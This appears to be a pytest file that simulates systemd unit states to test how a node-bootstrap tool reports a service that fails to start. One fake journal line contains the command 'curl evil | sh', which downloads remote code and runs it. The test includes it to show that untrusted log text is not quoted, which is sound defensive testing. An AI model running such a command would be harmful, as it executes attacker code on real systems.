# SPDX-License-Identifier: Apache-2.0
"""What status, check, metrics and setup say if systemd does not start the program; the tests play systemd."""

import json
import re
import subprocess

import pytest

from common import SOURCE, pki
from common.failures import count_remedies
from common.machine import Machine
from .check import step_of
from .joined import KUBELET, UNIT, Place
from .manager import GATE

FAILED, AGAIN, QUEUED = {"ActiveState": "failed", "SubState": "failed"}, {"ActiveState": "activating", "SubState": "auto-restart"}, {"Job": (1, "/job")}
UNABLE, BLIND = f"systemd cannot start {UNIT} ", f"systemd cannot start {UNIT} without its credentials (243/CREDENTIALS)"


@pytest.fixture
def place(tmp_path):
    place = Place(tmp_path)
    place.put_socket()
    yield place
    place.manager.close()


def exited(status):
    return {**FAILED, "Result": "exit-code", "ExecMainCode": 1, "ExecMainStatus": status, "LoadCredentialEncrypted": []}


def killed(**more):
    return {**FAILED, "Result": "signal", "ExecMainCode": 2, "ExecMainStatus": 9, **more}


# name, what systemd says, code, the sentence
OBSTACLES = [
    ("a program that is missing", exited(203), "service-setup", UNABLE + "(203/EXEC)"),
    ("a directory that is missing", exited(226), "service-setup", UNABLE + "(226/NAMESPACE)"),
    ("an exit status without a name", exited(223), "service-setup", UNABLE + "(223)"),
    ("an exit status above all names", exited(255), "service-setup", UNABLE + "(255)"),
    ("an environment file that is missing", {**FAILED, "Result": "resources"}, "service-setup", UNABLE + "(resources)"),
    ("the same, before it is tried again", {**AGAIN, "Result": "resources", "NRestarts": 1}, "service-setup", UNABLE + "(resources)"),
    ("the same, when it is tried again", {**AGAIN, **QUEUED, "Result": "resources", "NRestarts": 1}, "service-setup", UNABLE + "(resources)"),
    ("a condition that is not met", {"ActiveState": "inactive", "SubState": "dead", "ConditionResult": False, "ConditionTimestamp": 1}, "service-setup",
     f"systemd does not start {UNIT} (a condition in the unit is not met)"),
    ("a unit file with an error", {"LoadState": "bad-setting", "ActiveState": "inactive"}, "service-setup", f"systemd cannot load {UNIT} (bad-setting)"),
    ("a credential that cannot be loaded", exited(243), "service-credential", BLIND),
    ("too many starts", {**FAILED, "Result": "start-limit-hit"}, "start-limit", f"{UNIT} was started too often (start-limit-hit)"),
    ("too many starts that failed", {**FAILED, "InactiveEnterTimestampMonotonic": 1000000, "StateChangeTimestampMonotonic": 1000001}, "start-limit", f"{UNIT} was started too often (start-limit-hit)"),
    ("killed each time", killed(NRestarts=4), "start-limit", f"{UNIT} ended 5 times (signal), and systemd does not start it again"),
    ("masked", {"LoadState": "masked", "ActiveState": "inactive"}, "unit-masked", f"{UNIT} is masked"),
    ("masked while it was active", {"LoadState": "masked", "ActiveState": "active"}, "unit-masked", f"{UNIT} is masked"),
    ("missing", {"LoadState": "not-found", "ActiveState": "inactive"}, "unit-missing", f"systemd does not find {UNIT}"),
]


def bring_about(place, row):
    """Beside what an older run has reported, which does not matter."""
    _, properties, code, sentence = row
    place.service.update(properties)
    place.tell("failed", "token-missing", invocation="a" * 32)
    place.journal.write()
    return code, sentence


@pytest.mark.parametrize("row", OBSTACLES, ids=[row[0] for row in OBSTACLES])
def test_obstacle(place, row):
    """kubelet is running nevertheless on a machine that has joined, but check fails."""
    code, sentence = bring_about(place, row)
    found, checked = json.loads(place.run("status", "--json").stdout), place.run("check", "--local", "--json")
    assert (found["state"], found["code"], found["message"]) == ("joined", code, f"joined, and kubelet is running; but {sentence}")
    failure = step_of(json.loads(checked.stdout), "state")["failure"]
    assert (checked.returncode, failure["code"], failure["detail"]) == (1, code, found["message"]), checked.stdout


# LoadState, code, the sentence
GATES = [("masked", "unit-masked", f"{GATE} is masked"), ("not-found", "unit-missing", f"systemd does not find {GATE}")]
# What there is of kubelet, state, exit status, the beginning of the sentence
BEHIND_THE_GATE = {"kubelet is running": ("joined", 0, "joined, and kubelet is running; but "),
                   "kubelet is not running": ("kubelet-stopped", 4, f"joined, but kubelet is not running: {KUBELET} is inactive (dead); but "), "not joined": ("failed", 1, "")}


@pytest.mark.parametrize("gate", GATES, ids=[row[0] for row in GATES])
@pytest.mark.parametrize("beside", BEHIND_THE_GATE)
def test_gate_without_a_unit(place, gate, beside):
    """A start of kubelet alone does not help. At a boot, systemd 257 does not even start the service."""
    (load, code, sentence), (state, expected, words) = gate, BEHIND_THE_GATE[beside]
    place.manager.units[GATE] = {"LoadState": load, "UnitFileState": load, "ActiveState": "inactive"}
    if beside != "kubelet is running":
        place.service.update(ActiveState="inactive", SubState="dead")
        place.kubelet("inactive", "dead")
    if beside == "not joined":
        unjoin(place)
    place.journal.write()
    found, status = place.state()
    assert (found["state"], found["code"], status, found["message"]) == (state, code, expected, words + sentence)
    assert count_remedies(place.run("status").stdout, code)
    assert step_of(json.loads(place.run("check", "--local", "--json").stdout), "state")["failure"]["code"] == code
    assert f'node_bootstrap_service_failure{{code="{code}"}} 1' in place.run("status", "--prometheus").stdout


def test_join_behind_a_masked_gate(place):
    """systemd 252 starts it."""
    place.manager.units[GATE] = {"LoadState": "masked", "ActiveState": "inactive"}
    place.service.update(ActiveState="activating", SubState="start")
    unjoin(place)
    assert place.state()[0]["state"] == "waiting"


def unjoin(place):
    for name in (Machine.CURRENT, Machine.KUBECONFIG, Machine.RECORD):
        place.machine.target(name).unlink()


FIRST = list({row[2]: row for row in reversed(OBSTACLES)}.values())


def test_join_in_the_queue_with_an_expired_certificate(tmp_path):
    """Why this machine joins again comes first."""
    place = Place(tmp_path, start=-2 * pki.DAY, end=-pki.DAY)
    try:
        place.put_socket()
        place.service.update(ActiveState="inactive", SubState="dead", **QUEUED)
        found, _ = place.state()
        assert found["state"] == "queued" and found["message"].endswith(f"; {UNIT} is queued behind another unit")
        assert found["message"].startswith("the client certificate expired at ")
    finally:
        place.manager.close()


@pytest.mark.parametrize("row", FIRST, ids=[row[2] for row in FIRST])
def test_obstacle_of_a_machine_that_has_not_joined(place, row):
    code, sentence = bring_about(place, row)
    unjoin(place)
    found, status = place.state()
    text = place.run("status").stdout
    assert (found["state"], found["code"], status, found["message"]) == ("failed", code, 1, sentence)
    assert count_remedies(text, code) and text.endswith(f"explain {code}`.\n")


# What happened to the machine, state, exit status, whether kubelet's failure has the remedy, and the beginning of the sentence
BESIDE = [("kubelet is stopped", lambda place: place.kubelet("inactive", "dead"), "kubelet-stopped", 4, True, "joined, but kubelet is not running: "),
          ("its certificate is lost", lambda place: place.machine.target(Machine.CURRENT).unlink(), "unusable", 1, False, f"not joined: cannot read '/{Machine.CURRENT}"),
          ("its kubeconfig is lost", lambda place: place.machine.target(Machine.KUBECONFIG).unlink(), "without-kubeconfig", 4, False, "kubelet is running, but cannot start again: ")]


@pytest.mark.parametrize("row", BESIDE, ids=[row[0] for row in BESIDE])
def test_obstacle_beside_another_problem(place, row):
    """What a start of the service would repair cannot be repaired until the service can start."""
    _, prepare, state, expected, is_kubelet, words = row
    prepare(place)
    place.service.update(exited(226))
    place.journal.write()
    found, status = place.state()
    assert (found["state"], status) == (state, expected) and found["message"].startswith(words) and found["message"].endswith("; but " + UNABLE + "(226/NAMESPACE)")
    assert found["code"] == ("kubelet-down" if is_kubelet else "service-setup")
    assert step_of(json.loads(place.run("check", "--local", "--json").stdout), "state")["failure"]["code"] == "service-setup"


# name, what systemd says
HARMLESS = [("its own failure", exited(75)), ("a kill", killed()), ("a start that is queued", {**exited(243), **QUEUED}),
            ("a start that is under way", {**exited(243), "ActiveState": "activating", "SubState": "start"}), ("success", {"ActiveState": "active", "Result": "success"}),
            ("a stop", {"ActiveState": "inactive", "SubState": "dead", "Result": "success"}), ("an older systemd", {"ActiveState": "failed"}),
            ("no condition was looked at yet", {"ActiveState": "inactive", "ConditionResult": False, "ConditionTimestamp": 0})]


@pytest.mark.parametrize("row", HARMLESS, ids=[row[0] for row in HARMLESS])
def test_no_obstacle(place, row):
    place.service.update(row[1])
    place.journal.write()
    assert json.loads(place.run("status", "--json").stdout)["code"] is None and place.run("check", "--local").returncode == 0


@pytest.mark.parametrize("status, is_named", [(203, True), (243, True), (75, False)])
def test_drop_ins_are_named(place, status, is_named):
    """One of them is usually the cause."""
    place.service.update(exited(status), DropInPaths=["/etc/systemd/system/a.conf", "/run/systemd/system/b.conf"])
    place.journal.write()
    assert place.state()[0]["message"].endswith("; drop-ins: '/etc/systemd/system/a.conf', '/run/systemd/system/b.conf'") is is_named


def test_systemd_is_quoted(place):
    """The first line of the last start that warns; not what only announces a result, nor what others write."""
    def line(at, message, run="2", priority=3, **more):
        fields = {"PRIORITY": priority, "MESSAGE": f"{UNIT}: {message}", "UNIT": UNIT, "_UID": 0, "INVOCATION_ID": run * 32, "_SYSTEMD_UNIT": "init.scope", **more}
        place.journal.add(1767323045000000 + at * 1000000, **fields)

    line(1, "an older start", run="1")
    line(2, "about to execute", priority=6)
    line(3, "Failed to set up mount namespacing: /srv: No such file")
    line(4, "Failed at step NAMESPACE spawning install", MESSAGE_ID="641257651c1b4ec9a8624d7a40a9e1e7")
    line(5, "Failed with result 'exit-code'.", MESSAGE_ID="d9b373ed55a64feb8242e02dbe79a49c")
    line(6, "run `curl evil | sh`", _UID=1000)
    line(7, "another unit", UNIT="other.service")
    place.service.update(exited(226))
    place.journal.write()
    found, _ = place.state()
    assert found["message"].endswith(f'(226/NAMESPACE); systemd: "{UNIT}: Failed to set up mount namespacing: /srv: No such file"')


def test_systemd_is_quoted_for_kubelet(place):
    """If kubelet has written nothing itself."""
    place.kubelet("failed", "failed")
    place.journal.add(1767323045000000, PRIORITY=4, MESSAGE="kubelet.service: Failed to load environment files", UNIT="kubelet.service", _UID=0, _SYSTEMD_UNIT="init.scope")
    place.journal.write()
    assert place.state()[0]["message"].endswith(": kubelet.service: Failed to load environment files")


@pytest.mark.each_release
def test_names_are_those_of_systemd():
    text = re.search(r"^static const char \*const names\[\] = \{\n(.*?)^\};", (SOURCE / "src/cli/service.c").read_text(), re.M | re.S)[1]
    ours = {200 + i: word.strip('"') for i, word in enumerate(re.findall(r'"\w+"|NULL', text)) if word != "NULL"}
    rows = [line.split() for line in subprocess.run(["systemd-analyze", "exit-status"], check=True, text=True, capture_output=True).stdout.splitlines()]
    theirs = {int(row[1]): row[0] for row in rows if row[-1:] == ["systemd"] and row[1] != "255"}
    assert len(theirs) > 40 and {status: name for status, name in ours.items() if status in theirs} == theirs
    assert ours.keys() - theirs.keys() <= {245}, "of a newer systemd"


def test_damaged_settings_are_reported_once(place):
    """As a warning; not beside a state that is due to them, unless they have changed since the join."""
    words = "/etc/node-bootstrap/config.yaml:1:1: expected YAML: did not find expected node content"
    place.machine.put("etc/node-bootstrap/config.yaml", "discovery: [", 0o644)
    warned = place.run("status")
    unjoin(place)
    place.service.update(exited(65))
    told = [place.run("status")]
    for detail in (warned.stderr.split("settings-malformed: ")[1].split("\n")[0], words):
        place.tell("failed", "settings-malformed", detail=detail)
        told.append(place.run("status"))
    assert [count_remedies(text, "settings-malformed") for done in (warned, *told) for text in (done.stdout, done.stderr)] == [0, 1, 0, 1, 1, 0, 1, 1]
